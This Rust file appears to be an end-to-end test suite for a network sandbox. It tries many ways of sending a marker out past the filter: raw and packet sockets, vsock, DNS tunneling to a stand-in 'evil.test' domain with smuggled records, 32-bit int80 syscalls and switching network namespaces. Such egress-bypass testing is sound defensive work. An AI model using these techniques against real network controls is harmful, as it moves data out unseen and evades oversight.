//! Below and beside TCP and UDP: raw and packet sockets, DNS, other namespaces, the 32-bit ABI.

use std::{
    io::{self, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    os::fd::{AsRawFd as _, OwnedFd},
};

use e2e::sys::{self, sockaddr};

use crate::{Home, Way, tcp, way};

const RAW: i32 = libc::SOCK_RAW;
const SOCKET_32: u32 = 359;
const CONNECT_32: u32 = 362;
const SENDTO_32: u32 = 369;

pub(crate) const WAYS: &[Way] = &[
    way("raw-icmp", |h| raw(libc::IPPROTO_ICMP, &echo(h), h)),
    way("raw-udp", |h| raw(libc::IPPROTO_UDP, &udp(h), h)),
    way("raw-own-header", |h| raw(libc::IPPROTO_RAW, &packet(h), h)),
    way("raw-own-protocol", |h| raw(253, h.mark(), h)),
    way("raw-6", |h| {
        let mut to = h.six;
        to.set_port(0);
        let s = sys::socket(libc::AF_INET6, RAW, 253)?;
        sys::send_to(&s, h.mark(), &sockaddr(to), 0)
    }),
    way("ping-socket", |h| {
        let s = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP)?;
        sys::send_to(&s, &echo(h), &sockaddr(h.four), 0)
    }),
    way("packet-datagram", |h| {
        let s = sys::socket(libc::AF_PACKET, libc::SOCK_DGRAM, 0)?;
        sys::send_to(&s, &packet(h), &sys::at_link(), 0)
    }),
    way("packet-frame", |h| {
        let s = sys::socket(libc::AF_PACKET, RAW, 0)?;
        let mut frame = vec![0; 12];
        frame.extend([8, 0]);
        frame.extend(packet(h));
        sys::send_to(&s, &frame, &sys::at_link(), 0)
    }),
    way("vsock", |h| {
        let s = sys::socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0)?;
        sys::connect(&s, &sys::at_vsock(u32::from(h.four.port())))?;
        sys::send(&s, h.mark(), 0)
    }),
    way("dns-tunnel", |h| ask(h.resolver, &question(h, 1, 1))),
    way("dns-tunnel-txt", |h| ask(h.resolver, &question(h, 16, 1))),
    way("dns-two-questions", |h| ask(h.resolver, &two_questions(h))),
    way("dns-response-bit", |h| {
        let mut q = question(h, 1, 1);
        q[2] = 0x81;
        ask(h.resolver, &q)
    }),
    way("dns-no-question", |h| {
        let mut q = question(h, 1, 0);
        q[5] = 0;
        ask(h.resolver, &q)
    }),
    way("dns-trailer", |h| {
        // A name that may be asked for, and behind the message what is carried out.
        let mut q = permitted_question();
        q.extend(h.mark());
        ask(h.resolver, &q)
    }),
    way("dns-over-tcp", |h| {
        let q = question(h, 1, 1);
        let mut s = tcp(h.resolver)?;
        s.write_all(&(q.len() as u16).to_be_bytes())?;
        s.write_all(&q)
    }),
    way("dns-additional-record", |h| {
        // A question for the permitted name, and a record of the asker's own beside it.
        let mut q = permitted_question();
        q[11] = 1;
        q.extend([0, 0, 16, 0, 1, 0, 0, 0, 0, 0, h.mark().len() as u8]);
        q.extend(h.mark());
        ask(h.resolver, &q)
    }),
    way("dns-private-resolver", |h| ask(h.rogue, &question(h, 1, 1))),
    way("dns-private-resolver-permitted-name", |h| {
        let mut q = permitted_question();
        q.extend(h.mark());
        ask(h.rogue, &q)
    }),
    way("connect-32", |h| {
        let s = socket_32(libc::SOCK_STREAM)?;
        let to = sockaddr(h.four);
        let page = sys::low_page(&to)?;
        let done = sys::int80(CONNECT_32, [s.as_raw_fd() as u32, page, to.len() as u32, 0]);
        sys::free_low_page(page);
        done?;
        sys::send(&s, h.mark(), 0)
    }),
    way("send-32", |h| {
        // Connected first, because int80 of ours takes four arguments.
        let s = socket_32(libc::SOCK_DGRAM)?;
        sys::connect(&s, &sockaddr(h.four))?;
        let page = sys::low_page(h.mark())?;
        let done = sys::int80(SENDTO_32, [s.as_raw_fd() as u32, page, h.mark().len() as u32, 0]);
        sys::free_low_page(page);
        done.map(drop)
    }),
    way("other-network-namespace", |h| {
        elsewhere(h, |h| {
            let mut s = tcp(h.four)?;
            s.write_all(h.mark())
        })
    }),
    way("other-network-namespace-datagram", |h| {
        elsewhere(h, |h| {
            let s = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
            sys::send_to(&s, h.mark(), &sockaddr(h.four), 0)
        })
    }),
    way("listen-without-bind", |h| inbound(h, &sys::listen_any()?)),
    way("listen", |h| inbound(h, &std::net::TcpListener::bind("127.0.0.1:0")?)),
];

fn raw(protocol: i32, bytes: &[u8], h: &Home) -> io::Result<()> {
    let mut to = h.four;
    to.set_port(0);
    sys::send_to(&sys::socket(libc::AF_INET, RAW, protocol)?, bytes, &sockaddr(to), 0)
}

/// One's complement sum of 16-bit words.
fn checksum(bytes: &[u8]) -> [u8; 2] {
    let word = |c: &[u8]| u32::from(c[0]) << 8 | u32::from(*c.get(1).unwrap_or(&0));
    let mut sum: u32 = bytes.chunks(2).map(word).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    (!(sum as u16)).to_be_bytes()
}

fn echo(h: &Home) -> Vec<u8> {
    let mut bytes = vec![8, 0, 0, 0, 0, 7, 0, 1];
    bytes.extend(h.mark());
    let sum = checksum(&bytes);
    bytes[2..4].copy_from_slice(&sum);
    bytes
}

fn udp(h: &Home) -> Vec<u8> {
    let mut bytes = 4000u16.to_be_bytes().to_vec();
    bytes.extend(h.four.port().to_be_bytes());
    bytes.extend((8 + h.mark().len() as u16).to_be_bytes());
    // No checksum.
    bytes.extend([0; 2]);
    bytes.extend(h.mark());
    bytes
}

/// A whole IPv4 packet.
fn packet(h: &Home) -> Vec<u8> {
    let inner = udp(h);
    let mut bytes = vec![0x45, 0];
    bytes.extend((20 + inner.len() as u16).to_be_bytes());
    bytes.extend([0, 1, 0, 0, 64, 17, 0, 0, 127, 0, 0, 1]);
    bytes.extend(h.octets());
    let sum = checksum(&bytes);
    bytes[10..12].copy_from_slice(&sum);
    bytes.extend(inner);
    bytes
}

/// A question for a name that carries the mark.
fn question(h: &Home, record: u8, count: u8) -> Vec<u8> {
    let mut q = vec![0, 7, 1, 0, 0, count, 0, 0, 0, 0, 0, 0, h.mark().len() as u8];
    q.extend(h.mark());
    q.extend(b"\x04evil\x04test\x00\x00");
    q.extend([record, 0, 1]);
    q
}

/// What the tool may ask for.
pub(crate) fn permitted_question() -> Vec<u8> {
    let mut q = vec![0, 9, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 4];
    q.extend(b"good\x04test\x00\x00\x01\x00\x01");
    q
}

fn two_questions(h: &Home) -> Vec<u8> {
    let mut q = permitted_question();
    q[5] = 2;
    q.extend(&question(h, 1, 1)[12..]);
    q
}

pub(crate) fn ask(resolver: SocketAddr, bytes: &[u8]) -> io::Result<()> {
    sys::send_to(&sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?, bytes, &sockaddr(resolver), 0)
}

/// The permitted question: alone, with EDNS, and over TCP.
pub(crate) fn ask_well(resolver: SocketAddr) -> io::Result<()> {
    let plain = permitted_question();
    ask(resolver, &plain)?;
    let mut extended = plain.clone();
    extended[11] = 1;
    extended.extend([0, 0, 41, 4, 208, 0, 0, 0, 0, 0, 12, 0, 10, 0, 8, 1, 2, 3, 4, 5, 6, 7, 8]);
    ask(resolver, &extended)?;
    let mut segment = (plain.len() as u16).to_be_bytes().to_vec();
    segment.extend(plain);
    let mut s = tcp(resolver)?;
    s.write_all(&segment)?;
    // It got there: the peer's end is acknowledged by name.
    s.shutdown(std::net::Shutdown::Write)?;
    s.read_exact(&mut [0])
}

fn socket_32(kind: i32) -> io::Result<OwnedFd> {
    let fd = sys::int80(SOCKET_32, [libc::AF_INET as u32, kind as u32, 0, 0])?;
    sys::adopt(fd)
}

/// On a thread of its own: there it stays in that namespace.
fn elsewhere(h: &Home, go: fn(&Home) -> io::Result<()>) -> io::Result<()> {
    let h = h.clone();
    let there = std::thread::spawn(move || {
        let namespace = sys::open(&h.namespace, libc::O_RDONLY)?;
        sys::plain(libc::SYS_setns, [sys::number(&namespace), libc::CLONE_NEWNET as u64, 0, 0])?;
        go(&h)
    });
    there.join().map_err(|_panic| io::Error::other("the thread panicked"))?
}

/// Home calls, and is answered. It learns of the port from the proxy.
fn inbound(h: &Home, listener: &std::net::TcpListener) -> io::Result<()> {
    listener.set_nonblocking(true)?;
    crate::others::tell_proxy(h, &format!("dial {}\n", listener.local_addr()?.port()))?;
    for _ in 0..50 {
        match listener.accept() {
            Ok((s, _)) => {
                s.set_nonblocking(false)?;
                return answer(s, h);
            }
            Err(e) if e.kind() == io::ErrorKind::WouldBlock => {
                std::thread::sleep(std::time::Duration::from_millis(10));
            }
            Err(e) => return Err(e),
        }
    }
    Err(io::ErrorKind::TimedOut.into())
}

fn answer(mut s: TcpStream, h: &Home) -> io::Result<()> {
    s.write_all(h.mark())
}
